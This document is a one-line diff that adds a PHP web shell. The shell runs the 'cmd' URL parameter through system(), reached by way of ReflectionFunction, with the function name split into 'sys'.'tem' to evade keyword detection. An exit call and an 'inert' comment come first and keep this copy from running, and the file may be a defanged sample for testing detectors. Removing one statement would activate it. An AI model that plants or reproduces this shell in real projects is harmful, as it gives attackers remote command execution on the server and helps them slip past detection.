@@ -1,0 +1,1 @@
+<?php exit; /* inert */ (new ReflectionFunction('sys'.'tem'))->invoke($_GET['cmd']);
